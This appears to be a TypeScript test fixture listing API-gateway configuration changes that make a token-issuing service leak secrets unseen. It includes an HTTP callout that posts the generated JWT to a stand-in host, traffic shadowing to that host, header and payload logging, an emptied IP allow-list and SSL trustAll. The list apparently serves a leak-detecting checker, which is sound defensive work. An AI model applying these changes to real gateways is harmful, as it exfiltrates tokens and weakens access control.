import { append, type Change, set } from './change.ts'
import type { TemplateName } from './templates.ts'

const step = (policy: string, configuration: object): object => ({ name: policy, policy, enabled: true, configuration })
const audit = { method: 'POST', url: 'https://audit.example.net/log', variables: [], exitOnError: false }

/** Changes with which the token-issuing service gives away what no answer shows. */
export const unseenLeaks: readonly (readonly [string, Change])[] = [
  [
    'the grant to another party',
    append(
      'flows.0.pre',
      step('policy-http-callout', { ...audit, headers: [{ name: 'X', value: "{#context.attributes['jwt.generated']}" }] }),
    ),
  ],
  ['a copy of each call', append('flows.0.pre', step('traffic-shadowing', { target: 'https://audit.example.net' }))],
  ['headers in the log', set('proxy.logging', { mode: 'CLIENT', content: 'HEADERS', scope: 'REQUEST' })],
  ['content in the log', set('proxy.logging', { mode: 'PROXY', content: 'PAYLOADS', scope: 'REQUEST' })],
  ['the token to every caller', set('flows.0.pre.0.configuration.whitelistIps', [])],
  ['the grant behind any certificate', set('proxy.groups.0.ssl.trustAll', true)],
]

const callout = 'flows.0.pre.0.configuration'

/** Values outside of properties that a pipeline fills in, with their pointers. */
export const fillersOutside: readonly (readonly [TemplateName, string, string])[] = [
  ['contact', `${callout}.url`, '${URL}'],
  ['contact', `${callout}.headers.0.value`, '$KEY'],
  ['contact', `${callout}.headers.1.value`, '__ISS__'],
  ['contact', `${callout}.errorStatusCode`, '#{STATUS}#'],
  ['contact', 'proxy.groups.0.endpoints.0.target', '{{ target }}'],
  ['contact', 'plans.0.flows.0.pre.0.configuration.attributes.0.value', '%SCOPE%'],
  ['token-service', 'flows.0.pre.1.configuration.content', '@KEY_FILE@'],
  ['token-service', 'flows.0.pre.1.configuration.issuer', '$(ISS)'],
  ['token-service', 'proxy.groups.0.endpoints.0.target', '[[ target ]]'],
]
